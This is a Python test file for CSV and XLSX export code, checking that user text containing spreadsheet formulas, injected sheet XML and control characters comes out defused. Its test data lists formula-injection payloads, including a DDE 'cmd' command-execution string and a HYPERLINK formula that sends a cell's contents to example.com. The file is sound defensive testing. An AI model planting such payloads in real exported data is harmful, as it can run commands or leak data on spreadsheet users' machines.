"""What people typed comes out of a file as they typed it, and no spreadsheet program carries it out."""

import csv
import io
import re
import tempfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from consultations.reports.csv_xlsx import defused, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://example.com/"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1 310 555 0123",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
]
IN_THE_NEXT_CELL = [  # of a program that separates by semicolons or tabs
    ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"),
    ("x\t+1", "x\t'+1"),
    ("x; ;\u200b@SUM(1)", "x; ;'\u200b@SUM(1)"),
    ('x;"=1+1;', "x;'\"=1+1;"),
    ("x\n=1+1", "x\n'=1+1"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
]
LIKE_XML_OF_A_SHEET = [
    "<r><b></r>",
    '<r></r></is></c><c><f>1+1</f></c><c t="inlineStr"><is><r></r>',
    "<r><t>bold</t></r>",
]
HARMLESS = ["José Núñez-Gómez", "O'Brien", "O=Neill", "a,b;c", 'says "no"', "北京", "'=1+1", "1-2", ""]


def csv_of(rows) -> tuple[bytes, list[list[str]]]:
    file = io.BytesIO()
    assert write_csv(file, ["Name"], rows) == len(rows)
    return file.getvalue(), list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))


def xlsx_of(rows, head=("Name",)):
    file = io.BytesIO()
    with tempfile.TemporaryDirectory() as folder:
        assert write_xlsx(file, list(head), rows, folder=Path(folder)) == len(rows)
    file.seek(0)
    return openpyxl.load_workbook(file)["Requests"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_is_defused_in_csv(text):
    _bytes, rows = csv_of([[text]])
    assert rows[1] == [f"'{text}"]


@pytest.mark.parametrize(("text", "safe"), IN_THE_NEXT_CELL)
def test_formula_is_defused_in_csv_whatever_separates_the_cells(text, safe):
    written, rows = csv_of([["José", text]])
    assert rows[1] == ["José", safe]
    assert not re.search(r"""[;\t\r\n][\s"\u200b]*[=+@]""", written.decode())


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is_in_csv(text):
    assert defused(text) == text
    _bytes, rows = csv_of([[text]])
    assert rows[1] == ([text] if text else [""])


def test_every_cell_in_csv_stands_in_quotes():
    written, _rows = csv_of([["José", 3, None]])
    assert written.decode("utf-8-sig").splitlines()[1] == '"José","3",""'


def test_csv_says_that_it_is_utf_8():
    written, _rows = csv_of([["Núñez"]])
    assert written.startswith(b"\xef\xbb\xbf")
    assert written.count(b"\xef\xbb\xbf") == 1


def test_numbers_stay_numbers_in_csv():
    _bytes, rows = csv_of([[-3, 2.5, None]])
    assert rows[1] == ["-3", "2.5", ""]


@pytest.mark.parametrize("text", [*HOSTILE, *(text for text, _safe in IN_THE_NEXT_CELL), *HARMLESS[:-1]])
def test_xlsx_gives_back_text_as_text(text):
    cell = xlsx_of([[text]]).cell(2, 1)
    assert cell.data_type == "s"
    assert unescape(cell.value) == text


@pytest.mark.parametrize("text", LIKE_XML_OF_A_SHEET)
def test_xlsx_takes_no_text_for_xml_of_its_own(text):
    sheet = xlsx_of([[text]])
    assert sheet.cell(2, 1).data_type == "s"
    assert sheet.cell(2, 1).value == f" {text}"
    assert sheet.max_column == 1


def test_xlsx_keeps_numbers_and_empty_cells():
    row = next(xlsx_of([[-3, 2.5, None, ""]], head="abcd").iter_rows(min_row=2, values_only=True))
    assert row == (-3, 2.5, None, None)


@pytest.mark.parametrize("text", ["a\x00b", "a\x0bb", "a\x1fb"])
def test_control_characters_break_no_file(text):
    assert xlsx_of([[text]]).cell(2, 1).value == "ab"
    _bytes, rows = csv_of([[text]])
    assert rows[1] == ["ab"]


def test_text_longer_than_a_cell_is_cut_not_refused():
    assert len(xlsx_of([["x" * 40_000]]).cell(2, 1).value) == 32_767
